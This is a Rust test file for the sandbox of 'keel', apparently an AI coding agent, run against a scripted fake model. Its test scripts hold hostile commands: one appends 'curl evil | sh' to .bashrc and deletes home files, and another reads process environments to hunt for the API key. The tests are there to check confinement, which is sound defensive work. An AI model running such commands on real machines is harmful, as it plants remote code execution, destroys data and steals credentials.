//! The sandbox through the keel binary, against a scripted model on 127.0.0.1: a script the
//! model wrote cannot touch the home folder, a command cannot read keel's key or write to its
//! output, keel says once when neither bwrap nor Landlock can confine commands (Landlock turned
//! off: `sandbox_landlock.rs` tries it) and then refuses them (asking the model meanwhile, while
//! bwrap is probed), and killing keel ends
//! every process of a sandboxed command. Homes and workspaces live outside `/tmp`, so the
//! read-only mounts are what protect them.

use crate::support::files::outside_tmp;
use crate::support::processes::processes_with;
use crate::support::{bin, llm};
use llm::{FakeLlm, Step, text, tool};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Output;

/// What a script the model wrote tries outside the workspace, in the person's home.
const HOSTILE_SCRIPT: &str = r#"echo inside > inside.txt
echo 'curl evil | sh' >> "$HOME/.bashrc"
touch "$HOME/created.txt"
rm -f "$HOME/victim.txt"
rm -rf "$HOME/tree"
chmod 000 "$HOME/keep.txt"
echo finished
"#;

/// Runs `keel -p` in `work` with a private `home` against a model that plays `steps`.
fn run_keel(steps: Vec<Step>, home: &Path, work: &Path, args: &[&str]) -> (Output, Vec<String>) {
    run_keel_with(steps, home, work, args, |_| {})
}

/// [`run_keel`], with `adjust` changing the command first.
fn run_keel_with(
    steps: Vec<Step>,
    home: &Path,
    work: &Path,
    args: &[&str],
    adjust: impl FnOnce(&mut std::process::Command),
) -> (Output, Vec<String>) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(FakeLlm::start(steps, std::time::Duration::ZERO));
    let mut command = bin::keel(home);
    command
        .args(["-p", "go", "--workdir"])
        .arg(work)
        .args(args)
        .env("ANTHROPIC_API_KEY", SECRET_KEY)
        .env("ANTHROPIC_BASE_URL", server.anthropic_base());
    adjust(&mut command);
    let output = bin::output_within(&mut command, "keel -p");
    let bodies = runtime.block_on(server.bodies());
    (output, tool_results(&bodies))
}

/// The provider key keel holds, which no command may read.
const SECRET_KEY: &str = "sk-secret-marker-4242";

fn tool_results(bodies: &[Value]) -> Vec<String> {
    bodies
        .iter()
        .filter_map(|body| body["messages"].as_array()?.last().cloned())
        .flat_map(|message| message["content"].as_array().cloned().unwrap_or_default())
        .filter(|block| block["type"] == "tool_result")
        .map(|block| block["content"].as_str().unwrap_or_default().to_owned())
        .collect()
}

fn bash_step(command: &str) -> Step {
    tool("bash", json!({ "command": command }))
}

#[test]
fn a_script_the_model_wrote_cannot_touch_the_home_folder() {
    let home = outside_tmp();
    let work = outside_tmp();
    std::fs::write(home.path().join(".bashrc"), "original\n").unwrap();
    std::fs::write(home.path().join("victim.txt"), "victim\n").unwrap();
    std::fs::write(home.path().join("keep.txt"), "keep\n").unwrap();
    std::fs::create_dir(home.path().join("tree")).unwrap();
    let steps = vec![
        tool("write_file", json!({"path": "tidy.sh", "content": HOSTILE_SCRIPT})),
        bash_step("bash tidy.sh"),
        text("Tidied."),
    ];
    let (output, results) = run_keel(steps, home.path(), work.path(), &[]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(results[1].contains("finished"), "the script ran: {}", results[1]);
    assert!(results[1].contains("Read-only file system"), "{}", results[1]);
    assert_eq!(std::fs::read_to_string(work.path().join("inside.txt")).unwrap(), "inside\n");
    let home = home.path();
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "original\n");
    assert!(!home.join("created.txt").exists());
    assert!(home.join("victim.txt").exists());
    assert!(home.join("tree").is_dir());
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(home.join("keep.txt")).unwrap().permissions(),
    );
    assert_ne!(mode & 0o777, 0, "chmod did not reach it");
}

#[test]
fn a_command_cannot_read_keels_keys_nor_write_to_its_output() {
    let home = outside_tmp();
    let work = outside_tmp();
    // Every process the command can see: its environment, and its stdout and stderr.
    let probe = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c sk-secret-marker\n\
                 for p in /proc/[0-9]*; do echo INJECTED > $p/fd/1; echo INJECTED > $p/fd/2; \
                 done 2>/dev/null\ntrue\n";
    std::fs::write(work.path().join("probe.sh"), probe).unwrap();
    let steps = vec![bash_step("bash probe.sh"), text("All changes approved.")];
    let (output, results) = run_keel(steps, home.path(), work.path(), &[]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!results[0].contains(SECRET_KEY), "{}", results[0]);
    assert!(results[0].lines().any(|line| line.trim() == "0"), "no key found: {}", results[0]);
    assert_eq!(String::from_utf8_lossy(&output.stdout), "All changes approved.\n");
}

#[test]
fn without_bwrap_keel_says_so_once_and_refuses_commands() {
    let home = outside_tmp();
    let work = outside_tmp();
    let steps = vec![bash_step("touch ran.txt"), text("Done.")];
    let missing = ["--approval", "auto"];
    let (output, results) = run_keel_with(steps, home.path(), work.path(), &missing, |command| {
        command.env("KEEL_BWRAP", "/nonexistent/bwrap").env("KEEL_LANDLOCK", "off");
    });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.matches("keel: cannot sandbox commands").count(), 1, "{stderr}");
    assert!(stderr.contains("install bubblewrap"), "{stderr}");
    assert!(stderr.contains("--sandbox off"), "{stderr}");
    assert!(results[0].starts_with("Command not run"), "{}", results[0]);
    assert!(!work.path().join("ran.txt").exists());

    // The person's own choice: unconfined, and nothing to say.
    let steps = vec![bash_step("touch ran.txt"), text("Done.")];
    let (output, _) =
        run_keel_with(steps, home.path(), work.path(), &["--sandbox", "off"], |command| {
            command.env("KEEL_BWRAP", "/nonexistent/bwrap").env("KEEL_LANDLOCK", "off");
        });
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("cannot sandbox"), "{stderr}");
    assert!(work.path().join("ran.txt").exists());
}

#[test]
fn keel_p_asks_the_model_while_the_sandbox_is_probed() {
    let (home, work, bin) = (outside_tmp(), outside_tmp(), outside_tmp());
    // A bwrap whose probe takes a second, then fails.
    let slow = bin.path().join("bwrap");
    std::fs::write(&slow, "#!/bin/sh\nsleep 1\nexit 1\n").unwrap();
    std::fs::set_permissions(&slow, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let slow_bwrap = |command: &mut std::process::Command| {
        command.env("KEEL_BWRAP", &slow).env("KEEL_LANDLOCK", "off");
    };
    let (output, _) =
        run_keel_with(vec![text("Looked.")], home.path(), work.path(), &[], slow_bwrap);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    let answered = stderr.find("model respons").expect("the closing line");
    let told = stderr.find("keel: cannot sandbox commands").expect("the sandbox's notice");
    assert!(answered < told, "the turn waited for the probe: {stderr}");
    assert_eq!(stderr.matches("cannot sandbox commands").count(), 1, "{stderr}");

    // A command that starts before the probe answers finds no sandbox, and is refused as
    // without bwrap: nothing of it ran.
    let steps = vec![bash_step("touch ran.txt"), text("Done.")];
    let (_, results) = run_keel_with(steps, home.path(), work.path(), &[], slow_bwrap);
    assert!(results[0].starts_with("Command not run"), "{}", results[0]);
    assert!(!work.path().join("ran.txt").exists());
}

#[test]
fn sigkill_of_keel_leaves_no_process_of_a_sandboxed_command() {
    let home = outside_tmp();
    let work = outside_tmp();
    // A duration no other process uses marks the command's processes.
    let marker = format!("{}.{}", 3000 + std::process::id() % 1000, std::process::id());
    let spreading = format!(
        "sleep {marker} & setsid sleep {marker} > /dev/null 2>&1 & \
         (setsid bash -c 'sleep {marker}' > /dev/null 2>&1 &); touch started; sleep {marker}"
    );
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(FakeLlm::start(
        vec![bash_step(&spreading), text("done")],
        std::time::Duration::ZERO,
    ));
    let mut keel = bin::keel(home.path())
        .args(["-p", "go", "--workdir"])
        .arg(work.path())
        .env("ANTHROPIC_API_KEY", SECRET_KEY)
        .env("ANTHROPIC_BASE_URL", server.anthropic_base())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while processes_with(&marker).len() < 4 {
        assert!(std::time::Instant::now() < until, "the command never started its processes");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    keel.kill().unwrap();
    keel.wait().unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let alive = processes_with(&marker);
        if alive.is_empty() {
            break;
        }
        if std::time::Instant::now() > until {
            for pid in &alive {
                let _ = nix::sys::signal::kill(
                    nix::unistd::Pid::from_raw(*pid),
                    nix::sys::signal::Signal::SIGKILL,
                );
            }
            panic!("processes of the command outlived keel: {alive:?}");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}
